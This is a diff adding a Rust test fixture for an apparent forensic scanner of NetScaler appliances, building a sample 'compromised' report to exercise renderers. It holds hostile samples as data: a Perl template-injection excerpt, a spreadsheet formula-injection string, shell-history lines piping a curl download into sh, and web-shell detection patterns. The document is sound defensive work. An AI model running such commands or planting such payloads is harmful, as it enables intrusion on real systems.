@@ -1,0 +1,345 @@
+//! A hand-built report that exercises every awkward case the renderers must handle, for the
+//! tests of every renderer.
+
+use super::{GapCause, Report};
+
+use crate::model::{
+    Bytes, Coverage, EvPath, Finding, Gap, REPORT_SCHEMA, RuleHits, Severity, SourceCoverage,
+    SourceFile, TargetInfo, ToolInfo, Verdict, WindowCheck, WindowStatus, base64,
+};
+
+/// The sample: every part below, a collapsed finding, a rule that did not fire and a gap that
+/// blocks a clean verdict.
+pub(crate) fn sample_report() -> Report {
+    Report {
+        schema: REPORT_SCHEMA.into(),
+        tool: ToolInfo {
+            name: "sporen".into(),
+            version: "0.1.0".into(),
+        },
+        target: TargetInfo {
+            path: "/evidence/ns1".into(),
+            input: "directory".into(),
+            detail: None,
+            inputs: Vec::new(),
+        },
+        verdict: Verdict::Compromised,
+        posture: crate::model::Posture::default(),
+        reasons: vec![
+            "2 findings of critical or high severity.".into(),
+            "The required source `ns-log` could not be read completely.".into(),
+        ],
+        rules_sha256: "d".repeat(64),
+        coverage: coverage(),
+        flagged_files: vec![crate::model::FlaggedFile {
+            path: EvPath::new("var/tmp/bash"),
+            path_base64: None,
+            size: 1_234_567,
+            mode: "-rwsr-xr-x".into(),
+            uid: 0,
+            gid: 0,
+            inode: Some(4242),
+            mtime: "2023-07-20T10:00:00Z".into(),
+            btime: None,
+            sha256: None,
+            rules: vec!["cve-2023-3519.setuid-outside-allowlist".into()],
+        }],
+        windows: vec![
+            WindowCheck {
+                pack: "cve-2019-19781".into(),
+                title: "CVE-2019-19781 exploitation".into(),
+                from: "2020-01-10T00:00:00Z".into(),
+                until: None,
+                status: WindowStatus::Covered,
+                detail: "access-log, shell-history reach back to 2020-01-10 or earlier".into(),
+                examiner: Vec::new(),
+                holes: Vec::new(),
+                appliance_off: Vec::new(),
+            },
+            WindowCheck {
+                pack: "cve-2023-4966".into(),
+                title: "CVE-2023-4966 exploitation".into(),
+                from: "2023-10-10T00:00:00Z".into(),
+                until: None,
+                status: WindowStatus::NotRelevant,
+                detail: "the newest dated evidence (2020-01-27) predates the window".into(),
+                examiner: vec!["end set by the examiner to 2020-01-24 (--until)".into()],
+                holes: Vec::new(),
+                appliance_off: Vec::new(),
+            },
+        ],
+        findings: findings(),
+        rules: rules(),
+    }
+}
+
+/// Findings: a path that is not UTF-8 with a newline, an ANSI escape and a newline in an
+/// excerpt, a bidi override, a formula-looking excerpt, a collapsed finding.
+fn findings() -> Vec<Finding> {
+    let bad_path = EvPath::new(&b"netscaler/portal/templates/evil\xff\n.xml"[..]);
+    let bad_b64 = base64(bad_path.as_bytes());
+    vec![
+        Finding {
+            rule: "cve-2019-19781.template-directive".into(),
+            pack: "cve-2019-19781".into(),
+            severity: Severity::Critical,
+            title: "Portal template with a Perl template directive".into(),
+            path: bad_path,
+            path_base64: Some(bad_b64),
+            line: Some(1),
+            excerpt: Some(Bytes(
+                b"[% template.new({'BLOCK'=>'print `id`'}) %]\x1b[31mred\x1b[0m\nnext".to_vec(),
+            )),
+            count: 1,
+            last_line: None,
+            last_excerpt: None,
+            reason: "content matches `template.new`".into(),
+            sha256: Some("a".repeat(64)),
+            mtime: Some("2020-01-11T23:41:07Z".into()),
+            time: Some("2020-01-11T23:41:07Z".into()),
+            last_time: Some("2020-01-12T01:02:03Z".into()),
+            time_inferred: true,
+        },
+        Finding {
+            rule: "cve-2023-3519.webshell".into(),
+            pack: "cve-2023-3519".into(),
+            severity: Severity::High,
+            title: "PHP web shell under the logon themes".into(),
+            path: EvPath::new("var/netscaler/logon/themes/a\u{202e}gnp.php"),
+            path_base64: None,
+            line: Some(3),
+            excerpt: Some(Bytes(b"=cmd|' /C calc'!A0,\"x\"".to_vec())),
+            count: 1,
+            last_line: None,
+            last_excerpt: None,
+            reason: "content matches `eval(base64_decode`".into(),
+            sha256: Some("b".repeat(64)),
+            mtime: Some("2023-07-20T10:00:00Z".into()),
+            time: None,
+            last_time: None,
+            time_inferred: false,
+        },
+        Finding {
+            rule: "history.curl-pipe-shell".into(),
+            pack: "generic".into(),
+            severity: Severity::Medium,
+            title: "Download piped into a shell".into(),
+            path: EvPath::new("root/.bash_history"),
+            path_base64: None,
+            line: Some(10),
+            excerpt: Some(Bytes(b"curl http://198.51.100.7/x | sh".to_vec())),
+            count: 5,
+            last_line: Some(42),
+            last_excerpt: Some(Bytes(b"-curl http://198.51.100.7/y | sh\t#".to_vec())),
+            reason: "line matches `curl .* \\| *sh`".into(),
+            sha256: Some("c".repeat(64)),
+            mtime: None,
+            time: None,
+            last_time: None,
+            time_inferred: false,
+        },
+        Finding {
+            rule: "appliance.version".into(),
+            pack: "context".into(),
+            severity: Severity::Info,
+            title: "Firmware version".into(),
+            path: EvPath::new("flash/.version"),
+            path_base64: None,
+            line: None,
+            excerpt: None,
+            count: 1,
+            last_line: None,
+            last_excerpt: None,
+            reason: "file exists".into(),
+            sha256: None,
+            mtime: None,
+            time: None,
+            last_time: None,
+            time_inferred: false,
+        },
+    ]
+}
+
+/// Rule summaries, two of which did not fire.
+fn rules() -> Vec<RuleHits> {
+    let rule = |id: &str, pack: &str, severity, title: &str, findings, hits| RuleHits {
+        id: id.into(),
+        pack: pack.into(),
+        severity,
+        title: title.into(),
+        findings,
+        hits,
+        first_seen: None,
+        last_seen: None,
+    };
+    vec![
+        rule(
+            "appliance.version",
+            "context",
+            Severity::Info,
+            "Firmware version",
+            1,
+            1,
+        ),
+        rule(
+            "cve-2019-19781.template-directive",
+            "cve-2019-19781",
+            Severity::Critical,
+            "Portal template with a Perl template directive",
+            1,
+            1,
+        ),
+        rule(
+            "cve-2023-3519.webshell",
+            "cve-2023-3519",
+            Severity::High,
+            "PHP web shell under the logon themes",
+            1,
+            1,
+        ),
+        rule(
+            "cve-2023-4966.session-reuse",
+            "cve-2023-4966",
+            Severity::High,
+            "Session token reused from another address",
+            0,
+            0,
+        ),
+        rule(
+            "history.curl-pipe-shell",
+            "generic",
+            Severity::Medium,
+            "Download piped into a shell",
+            1,
+            5,
+        ),
+        rule(
+            "history.failed-login",
+            "generic",
+            Severity::Low,
+            "Failed login attempt",
+            0,
+            0,
+        ),
+    ]
+}
+
+/// Coverage with sources, a hole, a year inferred, and gaps (one blocking a clean verdict).
+fn coverage() -> Coverage {
+    Coverage {
+        looks_like_appliance: true,
+        notes: vec!["access times of the 250 folders listed may have been updated".into()],
+        entries_seen: 1300,
+        files_seen: 1000,
+        files_read: 980,
+        bytes_read: 12_900_000,
+        dirs_seen: 250,
+        symlinks_seen: 40,
+        special_files_skipped: 1,
+        sources: sources(),
+        gaps: vec![
+            Gap {
+                path: EvPath::new(&b"tmp/\x1b]0;pwned\x07\xfe"[..]),
+                path_base64: None,
+                cause: GapCause::SpecialFile,
+                detail: "FIFO\r\nnot opened".into(),
+                blocks_clean: false,
+            },
+            Gap {
+                path: EvPath::new("var/log/httpaccess.log.0.gz"),
+                path_base64: None,
+                cause: GapCause::CorruptGzip,
+                detail: "unexpected end of file".into(),
+                blocks_clean: false,
+            },
+            Gap {
+                path: EvPath::new("var/log/ns.log"),
+                path_base64: None,
+                cause: GapCause::Unreadable,
+                detail: "Permission denied (os error 13)".into(),
+                blocks_clean: true,
+            },
+        ],
+        ..Coverage::default()
+    }
+}
+
+/// Sources: one with a missing rotation, one read in part with its year inferred, one empty.
+fn sources() -> Vec<SourceCoverage> {
+    vec![
+        SourceCoverage {
+            id: "access-log".into(),
+            title: "Apache access log (httpaccess.log)".into(),
+            required: true,
+            from: Some("2020-01-05T00:00:01Z".into()),
+            to: Some("2020-01-27T10:00:00Z".into()),
+            year_inferred: false,
+            silence_limits: vec![crate::model::SilenceLimit {
+                log: EvPath::new("var/log/httpaccess.log"),
+                usual_silence_seconds: 900,
+                hole_after_seconds: 3 * 3600,
+            }],
+            time_gaps: vec![crate::model::TimeGap {
+                from: Some("2020-01-08T00:00:00Z".into()),
+                to: Some("2020-01-10T00:00:00Z".into()),
+                kind: crate::model::TimeGapKind::MissingRotation,
+                status: crate::model::TimeGapStatus::Hole,
+                paths: vec![EvPath::new("var/log/httpaccess.log.1.gz")],
+                detail: "httpaccess.log.1.gz is missing".into(),
+            }],
+            files: vec![
+                SourceFile {
+                    path: EvPath::new("var/log/httpaccess.log.0.gz"),
+                    bytes: 1_250_000,
+                    sha256: None,
+                    from: Some("2020-01-05T00:00:01Z".into()),
+                    to: Some("2020-01-08T00:00:00Z".into()),
+                    year_inferred_from: None,
+                },
+                SourceFile {
+                    path: EvPath::new("var/log/httpaccess.log"),
+                    bytes: 1_250_000,
+                    sha256: Some("00".repeat(32)),
+                    from: Some("2020-01-10T00:00:00Z".into()),
+                    to: Some("2020-01-27T10:00:00Z".into()),
+                    year_inferred_from: None,
+                },
+            ],
+            files_read: 1,
+            bytes: 2_500_000,
+        },
+        SourceCoverage {
+            id: "ns-log".into(),
+            title: "NetScaler system log (ns.log)".into(),
+            required: true,
+            from: None,
+            to: None,
+            year_inferred: true,
+            silence_limits: Vec::new(),
+            time_gaps: vec![],
+            files: vec![SourceFile {
+                path: EvPath::new("var/log/ns.log"),
+                bytes: 900,
+                sha256: None,
+                from: None,
+                to: None,
+                year_inferred_from: Some("the file's modification time".into()),
+            }],
+            files_read: 0,
+            bytes: 900,
+        },
+        SourceCoverage {
+            id: "bash-history".into(),
+            title: "Shell history".into(),
+            required: false,
+            from: None,
+            to: None,
+            year_inferred: false,
+            silence_limits: Vec::new(),
+            time_gaps: vec![],
+            files: vec![],
+            files_read: 0,
+            bytes: 0,
+        },
+    ]
+}
